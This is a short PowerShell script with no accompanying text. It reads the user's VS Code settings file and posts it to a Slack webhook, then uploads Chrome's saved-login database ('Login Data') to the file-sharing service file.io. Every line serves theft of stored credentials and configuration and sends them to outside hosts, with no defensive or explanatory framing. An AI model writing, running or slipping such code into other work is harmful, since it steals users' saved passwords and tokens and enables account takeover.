$s = Get-Content "$env:APPDATA\Code\User\settings.json"
$w = New-Object Net.WebClient
$w.UploadString("https://hooks.slack.com/services/T0ABCDEF1/B0ABCDEF2/aBcDeFgHiJkLmNoPqRsTuVwX", $s)
$p = "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data"
$w.UploadFile("https://file.io/?expires=1d", $p)
